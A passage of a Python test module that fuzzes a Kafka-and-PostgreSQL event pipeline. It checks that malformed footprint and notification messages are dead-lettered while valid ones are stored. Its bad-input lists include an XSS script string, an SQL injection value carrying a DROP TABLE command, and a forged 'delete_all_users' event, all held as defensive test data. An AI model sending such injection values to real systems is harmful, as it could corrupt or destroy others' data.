        b"[" * 50_000 + b"]" * 50_000,
        FollowUser(actor_id="hostile-a", followed_id="hostile-b").to_bytes(),
        _json(_footprint_dict(link=123)),
        _json(_footprint_dict(link="no-leading-slash")),
        _json(_footprint_dict(link="")),
        _json(_footprint_dict(method="")),
        _json(_footprint_dict(method="FETCH")),
        _json(_footprint_dict(method=["GET"])),
        _json(_footprint_dict(event_id="x")),
        _json(_footprint_dict(event_id="")),
        _json(_footprint_dict(footprint_time="yesterday")),
        _json(_footprint_dict(footprint_time="")),
        _json(_footprint_dict(status_code="abc")),
        _json(_footprint_dict(status_code=10**30)),
        _json(_footprint_dict(status_code=-1)),
        _json(_footprint_dict(duration_ms=-1)),
        _json(_footprint_dict(is_bot="maybe")),
        _json(_footprint_dict(visitor_id={"ip": "10.0.0.1"})),
        _json(_footprint_dict(link="/" + "a" * 500_000)),
        _json(_footprint_dict(referrer="https://x.example/" + "r" * 300_000)),
        _json(_footprint_dict(utm_source="u" * (MAX_TEXT + 1))),
    ]


def bad_notification_catalogue() -> list[bytes | None]:
    """Community events no notifications agent may act on: each must be dead-lettered."""
    return [
        b"not json at all",
        b"{not json",
        b"",
        None,  # a tombstone
        b"{}",
        b"null",
        b"[]",
        b"\xff\xfe\xfd",
        _json(_follow_dict()).replace(b'"hostile-b"', b'"hostile-\xff"'),
        good_footprint(0).to_bytes(),
        _json({"type": "delete_all_users", "actor_id": "hostile-a"}),
        _json({"type": "", "actor_id": "hostile-a"}),
        _json({"type": None, "actor_id": "hostile-a"}),
        _json({"actor_id": "hostile-a", "followed_id": "hostile-b"}),
        _json(_follow_dict(type="FOLLOW_USER")),
        _json(_follow_dict(admin=True)),
        _json(_follow_dict(actor_id=123)),
        _json(_follow_dict(actor_id="")),
        _json(_follow_dict(followed_id="<script>alert(1)</script>")),
        _json(_follow_dict(followed_id="'; DROP TABLE user_notifications; --")),
        _json(_follow_dict(followed_id="x" * 65)),
        _json(_follow_dict(event_id="not-a-uuid")),
        _json(_follow_dict(occurred_at="yesterday")),
        _json({"type": "create_post", "actor_id": "hostile-a", "post_id": "abc"}),
        _json({"type": "create_post", "actor_id": "hostile-a", "post_id": 0}),
        _json({"type": "create_post", "actor_id": "hostile-a", "post_id": 1, "title": "t" * 301}),
        _json({"type": "penalty_user", "actor_id": "m", "user_id": "u", "reason": ""}),
        _json({"type": "penalty_user", "actor_id": "m", "user_id": "u", "reason": "r" * 500_000}),
    ]


# What a message needs to be a footprint (the reference format's producers send no event id).
REQUIRED_FOOTPRINT = {"method", "link"}
WRONG_FOOTPRINT_VALUES: dict[str, st.SearchStrategy[Any]] = {
    # Only fields of Footprint: it ignores unknown ones (user_agent stays in the API).
    **{k: v for k, v in WRONG_TYPES.items() if k in Footprint.model_fields},
    # On the topic a null id or time means "absent": derived from the message instead.
    "event_id": WRONG_TYPES["event_id"].filter(lambda v: v is not None),
    "footprint_time": WRONG_TYPES["footprint_time"].filter(lambda v: v is not None),
    "is_bot": st.one_of(st.sampled_from(["maybe", "", "2"]), st.just([]), st.just({})),
    "visitor_id": _STRING_FIELD_WRONG,
    "status_code": st.one_of(st.integers(max_value=-1), st.integers(min_value=600)),
}
# Shorter than the smallest valid footprint (~110 bytes) or community event (49 bytes).
generated_bad_footprints = st.one_of(
    st.binary(max_size=64),
    st.dictionaries(st.text(max_size=12), json_scalars, max_size=5)
    .filter(lambda d: not d.keys() >= REQUIRED_FOOTPRINT)
    .map(_json),
    st.sampled_from(sorted(WRONG_FOOTPRINT_VALUES)).flatmap(
        lambda k: WRONG_FOOTPRINT_VALUES[k].map(lambda v: _json(_footprint_dict(**{k: v})))
    ),
)
generated_bad_notifications = st.one_of(
    st.binary(max_size=40),
    st.fixed_dictionaries(
        {"type": st.text(max_size=20).filter(lambda t: t not in EVENT_TYPES)},
        optional={"actor_id": st.just("hostile-a"), "followed_id": st.just("hostile-b")},
    ).map(_json),
    st.sampled_from(["actor_id", "followed_id", "event_id"]).flatmap(
        lambda k: _STRING_FIELD_WRONG.map(lambda v: _json(_follow_dict(**{k: v})))
    ),
    # Numbers are Unix times, so only these are wrong for a time.
    WRONG_TYPES["footprint_time"].map(lambda v: _json(_follow_dict(occurred_at=v))),
)


def generated(strategy: st.SearchStrategy[bytes]) -> list[bytes | None]:
    """Draw ``TOPIC_EXAMPLES`` values from a strategy (no I/O inside hypothesis)."""
    drawn: list[bytes | None] = []

    @settings(max_examples=TOPIC_EXAMPLES, **HYPOTHESIS)  # type: ignore[arg-type]
    @given(value=strategy)
    def draw(value: bytes) -> None:
        drawn.append(value)

    draw()
    return drawn


def doubtful_footprints() -> list[Footprint]:
    """Valid to the schema, but hard on a store: dead-lettered, or stored; never a stall."""
    return [
        good_footprint(0).model_copy(update={"event_id": uuid.uuid4(), "link": "/hostile/\x00"}),
        good_footprint(0).model_copy(update={"event_id": uuid.uuid4(), "utm_source": "a\x00b"}),
        good_footprint(0).model_copy(update={"event_id": uuid.uuid4(), "duration_ms": 1e-300}),
    ]


def doubtful_notifications() -> list[PenaltyUser | CreatePost]:
    """With a NUL PostgreSQL text and jsonb cannot hold (built without validation, as a
    misbehaving producer would send them)."""
    return [
        PenaltyUser.model_construct(
            event_id=uuid.uuid4(),
            actor_id="hostile-mod",
            user_id="hostile-nul",
            reason="a\x00b",
            type="penalty_user",
            occurred_at=datetime.now(UTC),
        ),
        CreatePost.model_construct(
            event_id=uuid.uuid4(),
            actor_id="hostile-nul-author",
            post_id=1,
            title="t\x00",
            type="create_post",
            occurred_at=datetime.now(UTC),
        ),
    ]


def dead_letter_problems(
    name: str, records: list[Any], bad: list[bytes | None], doubtful: list[bytes]
) -> list[str]:
    """Every bad message is in the dead-letter topic as it was sent, explained; nothing else."""
    problems = []
    got, want = Counter(r.value for r in records), Counter(bad)
    missing, extra = want - got, got - want - Counter(doubtful)
    if missing[None] and extra[b"None"]:
        problems.append(f"{name}: a tombstone (null value) was dead-lettered as b'None', not null")
        del missing[None], extra[b"None"]
    if missing:
        problems.append(f"{name}: {sum(missing.values())} bad not dead-lettered: {_few(missing)}")
    if extra:
        problems.append(f"{name}: {sum(extra.values())} good ones dead-lettered: {_few(extra)}")
    headers = [dict(r.headers) for r in records]
    if unexplained := [h for h in headers if not h.get("error") or "source-offset" not in h]:
        problems.append(f"{name}: {len(unexplained)} dead letters without error or source-offset")
    return problems


def test_bad_messages_on_the_topics_are_dead_lettered_and_good_ones_around_them_stored(
    app: Running,
) -> None:
    env, tag = app.env, uuid.uuid4().hex[:6]
    bad_fp = bad_footprint_catalogue() + generated(generated_bad_footprints)
    bad_nt = bad_notification_catalogue() + generated(generated_bad_notifications)
    doubtful_fp, doubtful_nt = doubtful_footprints(), doubtful_notifications()
    good_fp = [good_footprint(i) for i in range(len(bad_fp) // 3)]
    # Valid events: most notify somebody, some nobody (dangling post, no followers, self).
    notify: list[FollowUser | PenaltyUser] = [
        FollowUser(actor_id=f"hostile-fan-{tag}-{i}", followed_id=f"hostile-star-{tag}-{i}")
        for i in range(len(bad_nt) // 4)
    ]
    notify += [
        PenaltyUser(actor_id="hostile-mod", user_id=f"hostile-x-{tag}-{i}", reason="<b>'; --")
        for i in range(len(bad_nt) // 8)
    ]
    nobody = [
        CreateParentComment(actor_id="hostile-a", post_id=2_000_000_000, comment_id=1),
        CreatePost(actor_id=f"hostile-lonely-{tag}", post_id=2_000_000_000, title="<i>"),
        FollowUser(actor_id="hostile-self", followed_id="hostile-self"),
    ]
    # Good ones after the doubtful ones too, last: the worker must go on past them.
    tail_fp = [good_footprint(len(good_fp) + i) for i in range(5)]
    tail_nt = [
        FollowUser(actor_id=f"hostile-last-{tag}", followed_id=f"hostile-z{i}") for i in range(5)
    ]
    fp_records = mix(bad_fp, [(fp.link.encode(), fp.to_bytes()) for fp in good_fp])
    fp_records += [(fp.link.encode(), fp.to_bytes()) for fp in [*doubtful_fp, *tail_fp]]
    nt_records = mix(bad_nt, [(None, e.to_bytes()) for e in [*nobody, *notify]])
    nt_records += [(None, e.to_bytes()) for e in [*doubtful_nt, *tail_nt]]
    good_fp += tail_fp
    notify += tail_nt
    produce(app.bootstrap, env["FOOTPRINT_FOOTPRINTS_TOPIC"], fp_records)
    produce(app.bootstrap, env["FOOTPRINT_NOTIFICATIONS_TOPIC"], nt_records)
    with contextlib.suppress(AssertionError):  # what is missing is reported below
        wait_until(app.settled, timeout=60, what="both topics processed")
    problems = [] if app.settled() else [f"not everything processed: {app.health_note()}"]

    dead = {
        "footprints": consume_all(
            app.bootstrap, env["FOOTPRINT_DEAD_LETTER_TOPIC"], len(bad_fp) + 1, timeout=10
        ),
        "notifications": consume_all(
            app.bootstrap,
            env["FOOTPRINT_NOTIFICATIONS_DEAD_LETTER_TOPIC"],
            len(bad_nt) + 1,
            timeout=10,
        ),
    }
    problems += dead_letter_problems(
        "footprints", dead["footprints"], bad_fp, [fp.to_bytes() for fp in doubtful_fp]
    )
    problems += dead_letter_problems(
        "notifications", dead["notifications"], bad_nt, [e.to_bytes() for e in doubtful_nt]
    )

    dead_values = {r.value for records in dead.values() for r in records}
    stored_fp = stored_footprints(app.pg, [str(fp.event_id) for fp in [*good_fp, *doubtful_fp]])
    if lost := [fp for fp in good_fp if str(fp.event_id) not in stored_fp]:
        problems.append(f"footprints: {len(lost)} of {len(good_fp)} good ones not stored")
    for fp in doubtful_fp:
        if str(fp.event_id) not in stored_fp and fp.to_bytes() not in dead_values:
            what = f"link={fp.link!r} utm_source={fp.utm_source!r} duration_ms={fp.duration_ms}"
            problems.append(f"footprints: neither stored nor dead-lettered: {what}")
    with psycopg.connect(app.pg) as conn:
        (total_fp,) = conn.execute("SELECT count(*) FROM user_footprint").fetchone() or (0,)
        rows = conn.execute(
            'SELECT event_id::text, "user" FROM user_notifications '
            "WHERE event_id = ANY(%s::uuid[])",
            ([str(e.event_id) for e in [*notify, *nobody, *doubtful_nt]],),
        ).fetchall()
    if total_fp > len(stored_fp):
        problems.append(f"user_footprint holds {total_fp} rows, {len(stored_fp)} of them good")
    expected = {
        (str(e.event_id), e.followed_id if isinstance(e, FollowUser) else e.user_id) for e in notify
    }
    notified = {row for row in rows if row[0] not in {str(e.event_id) for e in doubtful_nt}}
    if notified != expected:
        problems.append(
            f"notifications: {len(expected - notified)} of {len(expected)} missing, "
            f"{len(notified - expected)} unexpected"
        )
    stored_nt = {row[0] for row in rows}
    for event in doubtful_nt:
        # A CreatePost by an author without followers notifies nobody: it leaves no row.
        if isinstance(event, PenaltyUser) and not (
            str(event.event_id) in stored_nt or event.to_bytes() in dead_values
        ):
            problems.append(f"notifications: neither stored nor dead-lettered: {event.reason!r}")

    alive = app.alive()
    dead_total = sum(len(v) for v in dead.values())
    try:
        reported = wait_until(
            lambda: n if (n := app.status()["dead_lettered"]) >= dead_total else None,
            timeout=15,
            what="the dead letters counted",
        )
    except AssertionError:
        reported = app.status()["dead_lettered"]
        problems.append(f"/api/stream/status counts {reported} dead letters of {dead_total}")

    good_stored = len([fp for fp in good_fp if str(fp.event_id) in stored_fp]) + len(
        notified & expected
    )
    TALLY["topics"] = Counter(
        sent=len(bad_fp) + len(bad_nt) + len(doubtful_fp) + len(doubtful_nt),
        dead_lettered=dead_total,
        good_sent=len(good_fp) + len(notify),
        good_stored=good_stored,
        worker_alive=int(alive),
    )
    print(
        f"hostile topics: footprints bad={len(bad_fp)} doubtful={len(doubtful_fp)} "
        f"dead_lettered={len(dead['footprints'])} good={len(good_fp)} "
        f"stored={len([fp for fp in good_fp if str(fp.event_id) in stored_fp])}; "
        f"notifications bad={len(bad_nt)} doubtful={len(doubtful_nt)} "
        f"dead_lettered={len(dead['notifications'])} good={len(notify) + len(nobody)} "
        f"(notifying {len(notify)}, stored={len(notified & expected)}); "
        f"status dead_lettered={reported} worker_alive={alive}"
    )
    assert not problems, "\n".join(problems)
    assert alive, app.health_note()


def _few(values: Counter[Any], n: int = 5) -> str:
    return ", ".join(
        repr(v if v is None or len(v) < 80 else v[:60] + b"...") for v in list(values)[:n]
    )


def mix(
    bad: list[bytes | None], good: list[tuple[bytes | None, bytes]]
) -> list[tuple[bytes | None, bytes | None]]:
    """Bad records (no key: any partition; a tombstone needs one) with the good ones between."""
    out: list[tuple[bytes | None, bytes | None]] = [
        (None if value is not None else b"/tombstone", value) for value in bad
    ]
    every = max(1, len(out) // max(1, len(good)))
    for i, record in enumerate(good):
        out.insert(min(len(out), i * (every + 1)), record)
    return out


# --- the closing figures ---------------------------------------------------------------------


def test_closing_figures_count_at_least_1000_hostile_inputs() -> None:
    missing = {"api", "schemathesis", "topics"} - TALLY.keys()
    if missing:
        pytest.skip(f"the closing figures need the whole module; not run: {sorted(missing)}")
    api, fuzz, topics = TALLY["api"], TALLY["schemathesis"], TALLY["topics"]
    sent = api["sent"] + fuzz["sent"] + topics["sent"]
    alive = all(part["worker_alive"] for part in TALLY.values())
    print(
        f"hostile: sent={sent} (api={api['sent']} schemathesis={fuzz['sent']} "
        f"topics={topics['sent']}) api_4xx={api['api_4xx'] + fuzz['api_4xx']} "
        f"api_5xx={api['api_5xx'] + fuzz['api_5xx']} dead_lettered={topics['dead_lettered']} "
        f"good_stored={api['stored'] + topics['good_stored']}/"
        f"{api['accepted'] + topics['good_sent']} worker_alive={alive}"
    )
    assert sent >= 1000
